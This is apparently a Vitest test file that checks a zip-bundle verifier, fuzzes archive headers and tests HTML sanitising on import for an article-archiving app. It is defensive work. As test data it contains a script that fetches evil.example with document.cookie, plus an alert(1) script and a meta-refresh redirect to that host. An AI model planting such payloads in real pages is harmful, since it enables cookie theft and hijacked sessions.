// @vitest-environment node
/**
 * Issue 12: a bundle that verify calls intact unzips to exactly what was verified.
 *
 * - Differential: every bundle verify accepts here — the hostile corpus's
 *   good.zip, a fresh export through the real writer (snapshot, page source,
 *   a screenshot larger than a read slice), and the legitimate exports the
 *   E2E tests leave in test-artifacts/ — is extracted by Debian's `unzip` and
 *   Python's `zipfile`: both produce exactly the files verify listed, byte for
 *   byte, and no links.
 * - fast-check: random single-byte and single-field mutations of a valid
 *   bundle are either refused by verify or extract identically everywhere.
 * - The reader's API for WACZ (layout check, stored ranges, streams, folders),
 *   the limits, the headlines, dates, the export's HTML policy.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { extractEverywhere, listedBy } from '../differential';
import { Blob as NodeBlob } from 'node:buffer';
import { beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import type { SaqtaDB } from '../../utils/db';
import { BundleError, headlineKey, refusalText } from '../../utils/zip/errors';
import { importBytes } from '../../utils/import/import';
import { parseBundle, sha256Hex } from '../../utils/bundle/read';
import { verifyBundle } from '../../utils/bundle/verify';
import { readerHtml, CSP } from '../../utils/export/html';
import { parseIsoDate } from '../../utils/export/dates';
import {
  LIMITS, checkLayout, concatBytes, diskKey, entryStream, listEntries, memorySource, openZip, readEntryBytes, readStoredRange, unzipStrict,
} from '../../utils/zip/read';
import { SNAPSHOT_CSP } from '../../utils/snapshot/types';
import { seedLibrary, exportBytes, htmlWindow, dump } from './bundle-helpers';
import { collectArticles, selectionPages } from '../../utils/export/collect';
import { writeWacz } from '../../utils/wacz/write';
import zipStrings from '../../locales/zip.json';
import libraryStrings from '../../locales/library.json';

const ROOT = join(__dirname, '..', '..');
const HOSTILE = join(ROOT, 'tests', 'fixtures', 'hostile');

/** A legitimate snapshot as the serializer writes it: policy, styles, inert form with the reader's value, a same-origin frame. */
const SNAPSHOT = `<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${SNAPSHOT_CSP}"><meta name="viewport" content="width=device-width"><style>body{color:#222}</style></head>
<body><header class="site" id="top" style="background:#eee"><a href="https://news.example/">News</a></header><article><p>Қазақстан президенті Қасым-Жомарт Тоқаев Бельгияға екі күндік сапармен барып, Еуроодақ басшыларымен кездесті.</p><p>Роза Ақылбекова: <em>«Біздің мақсатымыз – кінәлау емес»</em>, деді.</p>
<img src="data:image/png;base64,iVBORw0KGgo=" alt=""></article><form><input name="q" value="Тоқаев"><button type="button">Іздеу</button></form>
<iframe srcdoc="&lt;p&gt;frame&lt;/p&gt;"></iframe><template shadowrootmode="open"><p>shadow</p></template></body></html>`;

/** The seed library plus a full save: snapshot, page source with its scripts, a 1.5 MB screenshot. */
async function fullLibrary(): Promise<SaqtaDB> {
  const db = await seedLibrary();
  const page = (await db.pages.toArray()).find((p) => p.url.includes('azattyq'))!;
  const snap = new TextEncoder().encode(SNAPSHOT);
  const raw = new TextEncoder().encode('<!doctype html><html><head><script src="/app.js"></script></head><body onload="init()"><p>source</p></body></html>');
  const shot = new Uint8Array(1_500_000);
  for (let i = 0; i < shot.length; i++) shot[i] = (i * 2654435761) >>> 24;
  shot.set([137, 80, 78, 71, 13, 10, 26, 10]);
  const id = 'urn:uuid:00000000-0000-4000-8000-0000000000c2';
  const arts = [
    { kind: 'snapshot' as const, blobId: 'blob-snap', bytes: snap, mime: 'text/html' },
    { kind: 'raw' as const, blobId: 'blob-raw', bytes: raw, mime: 'text/html' },
    { kind: 'screenshot' as const, blobId: 'blob-shot2', bytes: shot, mime: 'image/png' },
  ];
  await db.captures.add({ id, pageId: page.id, url: page.url, finalUrl: page.url, capturedAt: '2026-06-25T07:00:00.000Z', browser: 'Chromium 140', extensionVersion: '0.1.0', artifacts: arts.map((a) => ({ kind: a.kind, blobId: a.blobId, sha256: sha256Hex(a.bytes), size: a.bytes.length, mime: a.mime })) });
  for (const a of arts) await db.blobs.add({ id: a.blobId, pageId: page.id, captureId: id, kind: a.kind, sha256: sha256Hex(a.bytes), size: a.bytes.length, mime: a.mime, data: new NodeBlob([a.bytes], { type: a.mime }) as unknown as Blob });
  return db;
}

/** Verify accepts it, and both tools extract exactly the files verify listed, byte for byte. */
async function expectSameEverywhere(bytes: Uint8Array, label: string): Promise<void> {
  const report = await verifyBundle(bytes, { window: await htmlWindow() });
  expect(report.ok, `${label}: ${report.lines.filter((l) => l.level === 'fail').map((l) => l.message).join('; ')}`).toBe(true);
  const listed = listedBy(report);
  const { unzip, python } = extractEverywhere(bytes);
  expect(unzip, `${label}: unzip`).toEqual(listed);
  expect(python, `${label}: python zipfile`).toEqual(listed);
}

let good: Uint8Array;
let full: Uint8Array;
beforeAll(async () => {
  good = new Uint8Array(readFileSync(join(HOSTILE, 'good.zip')));
  // The library page, which writes .zip exports, has a DOMParser: the writer parses a snapshot's
  // policy with it (utils/snapshot/policy.ts); without one every HTML artifact travels as text.
  (globalThis as { DOMParser?: unknown }).DOMParser ??= (await htmlWindow()).DOMParser;
  full = await exportBytes(await fullLibrary());
}, 60_000);

describe('differential: what verify accepts, unzip and Python extract identically', () => {
  it('the tools are here (.ci/run installs unzip and python3)', () => {
    expect(execFileSync('unzip', ['-v'], { encoding: 'utf8' })).toContain('UnZip');
    expect(execFileSync('python3', ['-c', 'import zipfile; print("ok")'], { encoding: 'utf8' }).trim()).toBe('ok');
  });

  it('the hostile corpus’s good.zip', async () => {
    await expectSameEverywhere(good, 'good.zip');
  });

  it('a fresh export through the real writer: snapshot, page source as text, a screenshot of several read slices', async () => {
    const names = (await listEntries(full)).map((e) => e.name);
    expect(names.some((p) => p.endsWith('/snapshot.html'))).toBe(true);
    expect(names.some((p) => p.endsWith('/raw.html.txt'))).toBe(true);
    expect(names.some((p) => p.endsWith('/article.html.txt'))).toBe(true);
    expect(names.filter((p) => p.endsWith('.html')).every((p) => !p.includes('raw') && !p.includes('article.html'))).toBe(true);
    await expectSameEverywhere(full, 'fresh export');
    // The page source travels byte for byte (its hash is the capture's proof) and comes back as HTML.
    const parsed = await parseBundle(full);
    const raw = parsed.articles.flatMap((a) => a.captures).flatMap((c) => c.files).find((f) => f.ref.kind === 'raw')!;
    expect(raw.ref.mime).toBe('text/html');
    expect(await raw.data.text()).toContain('<script src="/app.js">');
  });

  it('bundles and WACZ files the test exports itself (seed and full library, .zip and .wacz), then any the E2E tests left in test-artifacts/', async () => {
    /** What the strict WACZ reader accepts: name → SHA-256, or null when it refuses the file. */
    const strictWacz = async (bytes: Uint8Array): Promise<Map<string, string> | null> => {
      const files = new Map<string, string>();
      try {
        const entries = await openZip(memorySource(bytes), { allowFolders: true });
        await checkLayout(memorySource(bytes), entries);
        for (const e of entries.filter((x) => !x.folder)) files.set(e.name, sha256Hex(await readEntryBytes(memorySource(bytes), e)));
      } catch {
        return null;
      }
      return files;
    };
    const waczOf = async (db: SaqtaDB): Promise<Uint8Array> => {
      const { pageIds, only } = await selectionPages(db, { kind: 'all' });
      const chunks: Uint8Array[] = [];
      await writeWacz(collectArticles(db, pageIds, only), { title: 'zip-strict', created: new Date('2026-06-25T08:00:00Z'), id: 'urn:uuid:00000000-0000-4000-8000-00000000b0d2', software: 'Saqta 0.1.0 (test)', total: pageIds.length }, (c) => {
        chunks.push(c);
      });
      return concatBytes(chunks);
    };
    // The test's own exports, through the real writers: each must be accepted and extract identically.
    const own: [string, Uint8Array][] = [
      ['seed.zip', await exportBytes(await seedLibrary())],
      ['full.zip', full],
      ['seed.wacz', await waczOf(await seedLibrary())],
      ['full.wacz', await waczOf(await fullLibrary())],
    ];
    let checked = 0;
    for (const [name, bytes] of own) {
      if (name.endsWith('.wacz')) {
        const files = await strictWacz(bytes);
        expect(files, `${name}: the strict reader accepts Saqta's own WACZ`).not.toBeNull();
        expect(files!.size, name).toBeGreaterThan(3);
        const { unzip, python } = extractEverywhere(bytes);
        expect(unzip, name).toEqual(files);
        expect(python, name).toEqual(files);
      } else {
        await expectSameEverywhere(bytes, name);
      }
      checked++;
    }
    expect(checked).toBe(own.length);

    // Then every legitimate one the E2E tests left (when they ran in this checkout).
    const dir = join(ROOT, 'test-artifacts');
    const files = existsSync(dir) ? readdirSync(dir).filter((f) => /\.(zip|wacz)$/.test(f)) : [];
    let fromE2e = 0;
    for (const f of files) {
      const bytes = new Uint8Array(readFileSync(join(dir, f)));
      if (f.endsWith('.wacz')) {
        // (library.e2e.ts leaves a deliberately altered one there: refused
        // by an entry's CRC while reading, it is not a legitimate file.)
        const got = await strictWacz(bytes);
        if (!got) continue;
        const { unzip, python } = extractEverywhere(bytes);
        expect(unzip, f).toEqual(got);
        expect(python, f).toEqual(got);
        fromE2e++;
        continue;
      }
      if (!(await verifyBundle(bytes, { window: await htmlWindow() })).ok) continue;
      await expectSameEverywhere(bytes, f);
      fromE2e++;
    }
    console.log(`zip-strict: ${checked} own exports and ${fromE2e} E2E artifacts extracted identically by unzip and Python`);
  }, 120_000);

  it('the hidden-record and hidden-local-entry archives really do unpack differently (so refusing them matters)', () => {
    const hidden = extractEverywhere(new Uint8Array(readFileSync(join(HOSTILE, 'hidden-central-record.zip'))));
    // Both tools read the record the end record does not count: index.html is the doctored one.
    for (const t of [hidden.unzip, hidden.python]) {
      if (typeof t === 'string') continue;
      const index = t.get('index.html');
      expect(index).toBe(createHash('sha256').update('<!doctype html><title>Bundle</title><script>fetch("https://evil.example/?"+document.cookie)</script><h1>Index</h1>').digest('hex'));
    }
    const link = spawnSync('unzip', ['-Z1', join(HOSTILE, 'symlink.zip')], { encoding: 'utf8' });
    expect(link.stdout).toContain('notes.txt');
    const mode = spawnSync('unzip', ['-Zl', join(HOSTILE, 'symlink.zip'), 'notes.txt'], { encoding: 'utf8' });
    expect(mode.stdout).toMatch(/^l/m);
  });
});

/** Offsets of every header field a mutation may change: end record, central records, local headers. */
function fieldsOf(bytes: Uint8Array, entries: { localOffset: number }[]): { at: number; len: 2 | 4; what: string }[] {
  const u16 = (o: number) => bytes[o]! | (bytes[o + 1]! << 8);
  const u32 = (o: number) => (u16(o) | (u16(o + 2) << 16)) >>> 0;
  const end = bytes.length - 22;
  const fields: { at: number; len: 2 | 4; what: string }[] = [];
  const add = (base: number, list: [number, 2 | 4, string][], where: string) => list.forEach(([o, len, what]) => fields.push({ at: base + o, len, what: `${where} ${what}` }));
  add(end, [[4, 2, 'disk'], [6, 2, 'cd disk'], [8, 2, 'count here'], [10, 2, 'count'], [12, 4, 'cd size'], [16, 4, 'cd offset'], [20, 2, 'comment length']], 'end');
  let p = u32(end + 16);
  while (p < end && u32(p) === 0x02014b50) {
    add(p, [[4, 2, 'made by'], [6, 2, 'needed'], [8, 2, 'flags'], [10, 2, 'method'], [12, 2, 'time'], [14, 2, 'date'], [16, 4, 'crc'], [20, 4, 'packed'], [24, 4, 'size'], [28, 2, 'name length'], [30, 2, 'extra length'], [32, 2, 'comment length'], [34, 2, 'disk'], [36, 2, 'internal'], [38, 4, 'external'], [42, 4, 'offset']], 'central');
    p += 46 + u16(p + 28) + u16(p + 30) + u16(p + 32);
  }
  for (const e of entries) add(e.localOffset, [[4, 2, 'needed'], [6, 2, 'flags'], [8, 2, 'method'], [10, 2, 'time'], [12, 2, 'date'], [14, 4, 'crc'], [18, 4, 'packed'], [22, 4, 'size'], [26, 2, 'name length'], [28, 2, 'extra length']], 'local');
  return fields;
}

describe('fast-check: a mutated bundle is refused, or unpacks the same everywhere', () => {
  /** A small valid bundle (two articles, no big screenshot) so each run is quick. */
  let small: Uint8Array;
  let fields: ReturnType<typeof fieldsOf>;
  beforeAll(async () => {
    small = good;
    fields = fieldsOf(small, await listEntries(small));
  });

  const check = async (bad: Uint8Array) => {
    const report = await verifyBundle(bad, { window: await htmlWindow() }).catch((e: unknown) => {
      throw new Error(`verify threw instead of reporting: ${String(e)}`);
    });
    if (!report.ok) return 'refused';
    const listed = listedBy(report);
    const { unzip, python } = extractEverywhere(bad);
    expect(unzip).toEqual(listed);
    expect(python).toEqual(listed);
    return 'same';
  };

  it('single-byte changes anywhere', async () => {
    const seen = { refused: 0, same: 0 };
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: good.length - 1 }), fc.integer({ min: 1, max: 255 }), async (at, xor) => {
        const bad = small.slice();
        bad[at] = bad[at]! ^ xor;
        seen[await check(bad)]++;
      }),
      { numRuns: 40 },
    );
    expect(seen.refused).toBeGreaterThan(0);
  });

  it('single header fields set to other values (0, all ones, ±1, random)', async () => {
    const seen = { refused: 0, same: 0 };
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: 10_000 }), fc.oneof(fc.constant(0), fc.constant(0xffffffff), fc.constant(1), fc.constant(-1), fc.nat()), async (pick, v) => {
        const f = fields[pick % fields.length]!;
        const bad = small.slice();
        const view = new DataView(bad.buffer, bad.byteOffset, bad.byteLength);
        const old = f.len === 2 ? view.getUint16(f.at, true) : view.getUint32(f.at, true);
        const value = v === 1 ? old + 1 : v === -1 ? old - 1 : v;
        if (f.len === 2) view.setUint16(f.at, value & 0xffff, true);
        else view.setUint32(f.at, value >>> 0, true);
        seen[await check(bad)]++;
      }),
      { numRuns: 40 },
    );
    expect(seen.refused).toBeGreaterThan(0);
  });
});

describe('the reader’s API (import, verify and WACZ read through it)', () => {
  it('lists entries, checks the layout without reading data, streams an entry, reads ranges of a stored one', async () => {
    const src = memorySource(full);
    const entries = await openZip(src);
    const offsets = await checkLayout(src, entries);
    const shot = entries.find((e) => e.name.endsWith('capture-2/screenshot.png'))!;
    expect(shot.method).toBe(0);
    const whole = await readEntryBytes(src, shot);
    expect(whole.length).toBe(1_500_000);
    expect(await readStoredRange(src, shot, 1_000_000, 16, offsets.get(shot.name))).toEqual(whole.subarray(1_000_000, 1_000_016));
    expect(await readStoredRange(src, shot, 0, 8)).toEqual(new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10]));
    await expect(readStoredRange(src, shot, 1_499_999, 2)).rejects.toThrow(RangeError);
    const manifest = entries.find((e) => e.name === 'datapackage.json')!;
    await expect(readStoredRange(src, manifest, 0, 1)).rejects.toThrow(/compressed/);
    const chunks: Uint8Array[] = [];
    const reader = entryStream(src, manifest).getReader();
    for (let r = await reader.read(); !r.done; r = await reader.read()) chunks.push(r.value);
    expect(JSON.parse(new TextDecoder().decode(Buffer.concat(chunks))).format.name).toBe('saqta-bundle');
  });

  it('accepts empty folder entries only when asked (WACZ writers make them), still checking every path', async () => {
    const zip = zipSync({ 'archive/': new Uint8Array(0), 'archive/data.warc.gz': strToU8('warc') }, { level: 0 });
    await expect(listEntries(zip)).rejects.toMatchObject({ code: 'directory-entry' });
    const entries = await listEntries(zip, { allowFolders: true });
    expect(entries.map((e) => [e.name, e.folder])).toEqual([['archive/', true], ['archive/data.warc.gz', false]]);
    const bad = zipSync({ '../x/': new Uint8Array(0) }, { level: 0 });
    await expect(listEntries(bad, { allowFolders: true })).rejects.toMatchObject({ code: 'unsafe-path' });
  });

  it('names are compared as a case-insensitive, normalizing disk would store them', () => {
    expect(diskKey('ANNOTATIONS.jsonld')).toBe(diskKey('annotations.jsonld'));
    expect(diskKey('cafe\u0301.md')).toBe(diskKey('caf\u00e9.md'));
    expect(diskKey('STRASSE.md')).toBe(diskKey('straße.md'));
    expect(diskKey('a/index.html.')).toBe(diskKey('a/index.html'));
    expect(diskKey('a/b.md')).not.toBe(diskKey('a/c.md'));
  });
});

describe('limits and headlines', () => {
  it('the entry cap fits a real library of 10,000 articles, and a bundle of more articles is refused, naming the count', async () => {
    expect(LIMITS.entries).toBeLessThan(50_000);
    expect(LIMITS.entries).toBeGreaterThanOrEqual(10_000 * 2 + 1_000 * 10 + 4);
    const files: Record<string, Uint8Array> = { 'datapackage.json': strToU8('{}') };
    for (let i = 0; i <= LIMITS.articles; i++) files[`articles/${i}/page.json`] = new Uint8Array(0);
    const err = await parseBundle(zipSync(files, { level: 0 })).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(BundleError);
    expect((err as BundleError).code).toBe('too-many-articles');
    expect((err as BundleError).message).toBe(`The bundle holds 10001 articles, more than Saqta imports at once (10000). Export the library in parts (by tag or by selection) and import each part.`);
    const many = new Uint8Array(readFileSync(join(HOSTILE, 'too-many-entries.zip')));
    const e2 = (await parseBundle(many).catch((e: unknown) => e)) as BundleError;
    expect(e2.message).toContain(`has 60000 files; a bundle of 10,000 articles needs at most ${LIMITS.entries}`);
  });

  it('each refusal’s headline names its real reason, in three languages (a long note is not a zip bomb)', async () => {
    const expected: Record<string, { code: string; imported?: unknown }> = JSON.parse(readFileSync(join(HOSTILE, 'expected.json'), 'utf8'));
    const heads = { ...zipStrings, ...libraryStrings } as Record<string, { en: string; kk: string; ru: string }>;
    const headOf = (file: string) => headlineKey(expected[file]!.code as BundleError['code']);
    expect(headOf('note-too-long.zip')).toBe('zipHead_tooLong');
    expect(headOf('annotation-huge-note.zip')).toBe('zipHead_tooLong');
    expect(heads[headOf('note-too-long.zip')]!.en).not.toMatch(/bomb/i);
    expect(headOf('real-bomb.zip')).toBe('zipHead_bomb');
    expect(headOf('hidden-central-record.zip')).toBe('zipHead_ambiguous');
    expect(headOf('local-crc-differs.zip')).toBe('zipHead_ambiguous');
    expect(headOf('symlink.zip')).toBe('zipHead_special');
    expect(headOf('case-clash.zip')).toBe('zipHead_names');
    expect(headOf('too-many-entries.zip')).toBe('zipHead_tooLarge');
    for (const [file, w] of Object.entries(expected)) {
      if (w.imported) continue;
      const h = heads[headlineKey(w.code as BundleError['code'])];
      expect(h, file).toBeDefined();
      for (const lang of ['en', 'kk', 'ru'] as const) expect(h![lang], `${file} ${lang}`).toMatch(/\S/);
    }
    expect(refusalText('symlink', ['"notes.txt"'], 'kk')).toContain('"notes.txt"');
  });
});

describe('dates and typed fields on import', () => {
  it('reads ISO 8601 only: keeps Saqta’s form, normalizes zones and dates without time, refuses the rest', () => {
    expect(parseIsoDate('2026-06-24T11:12:00.000Z')).toEqual({ iso: '2026-06-24T11:12:00.000Z', changed: false, assumedUtc: false });
    expect(parseIsoDate('2019-03-04T10:00:00+05:00')).toMatchObject({ iso: '2019-03-04T05:00:00.000Z', changed: true, assumedUtc: false });
    expect(parseIsoDate('2019-03-04')).toMatchObject({ iso: '2019-03-04T00:00:00.000Z', assumedUtc: true });
    for (const bad of ['03/04/2019 10:00', '1', 'yesterday', '2019-02-30T10:00:00Z', '2019-13-01', '', 5, null]) expect(parseIsoDate(bad), String(bad)).toBeNull();
  });

  it('an import normalizes a zoned date and drops a published time that is not a date, saying so in the summary', async () => {
    const files = Object.fromEntries(await unzipStrict(good));
    const path = Object.keys(files).find((p) => p.endsWith('/page.json'))!;
    const page = JSON.parse(new TextDecoder().decode(files[path]));
    files[path] = strToU8(JSON.stringify({ ...page, createdAt: '2026-06-24T16:12:00+05:00', publishedTime: 'вчера' }));
    const m = JSON.parse(new TextDecoder().decode(files['datapackage.json']));
    for (const r of m.resources) r.bytes = files[r.path]!.length, (r.hash = `sha256:${sha256Hex(files[r.path]!)}`);
    files['datapackage.json'] = strToU8(JSON.stringify(m));
    const db = await seedLibrary();
    await db.pages.clear();
    await db.annotations.clear();
    await db.captures.clear();
    await db.blobs.clear();
    const summary = await importBytes(db, zipSync(files), { window: await htmlWindow() });
    expect(summary.notes?.map((n) => n.key).sort()).toEqual(['impNoteDate', 'impNoteDateDropped']);
    const stored = (await db.pages.toArray()).find((p) => p.id === page.id)!;
    expect(stored.createdAt).toBe('2026-06-24T11:12:00.000Z');
    expect(stored.publishedTime).toBeUndefined();
  });

  it('a refused date changes nothing in the library', async () => {
    const db = await seedLibrary();
    const before = await dump(db);
    const err = await importBytes(db, new Uint8Array(readFileSync(join(HOSTILE, 'page-date-not-iso.zip'))), { window: await htmlWindow() }).catch((e: unknown) => e);
    expect((err as BundleError).code).toBe('page-invalid');
    expect(await dump(db)).toBe(before);
  });
});

describe('saved HTML on import', () => {
  it('a script only in an article copy’s <head> is found and removed too; a clean copy keeps its bytes', async () => {
    const { cleanArticleHtml, cleanSnapshotHtml } = await import('../../utils/extract/clean-html');
    const win = await htmlWindow();
    const headOnly = cleanArticleHtml('<html><head><script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body><p>Text</p></body></html>', win);
    expect(headOnly.removed.join(' ')).toMatch(/<script> ×1/);
    expect(headOnly.removed.join(' ')).toMatch(/meta refresh ×1/);
    expect(headOnly.html).not.toMatch(/script|refresh/);
    const clean = '<h1>T</h1><p>Text <a href="https://x.example/">x</a></p><img src="https://cdn.example/x.png">';
    expect(cleanArticleHtml(clean, win)).toEqual({ html: clean, removed: [] });
    expect(cleanSnapshotHtml(SNAPSHOT, win)).toEqual({ html: SNAPSHOT, removed: [] });
  });
});

describe('HTML Saqta writes into an export', () => {
  it('every page carries a policy that forbids forms, and a saved article’s forms are taken out', async () => {
    expect(CSP).toContain("form-action 'none'");
    const { HOSTILE_ARTICLE_HTML } = await import('./bundle-helpers');
    const page = (await (await seedLibrary()).pages.toArray())[0]!;
    const html = readerHtml({ page, annotations: [], captures: [], articleHtml: HOSTILE_ARTICLE_HTML });
    expect(html).toContain(`content="${CSP}"`);
    expect(html).not.toMatch(/<form|<input|<button|action=|<script|onerror|javascript:/i);
    expect(html).toContain('Біздің мақсатымыз');
    // The whole export: each .html file has the policy; the page source is not an .html file.
    const files = await unzipStrict(full);
    const htmls = [...files.keys()].filter((p) => p.endsWith('.html'));
    expect(htmls.length).toBeGreaterThan(3);
    for (const p of htmls) expect(new TextDecoder().decode(files.get(p)), p).toMatch(/form-action 'none'/);
  });
});
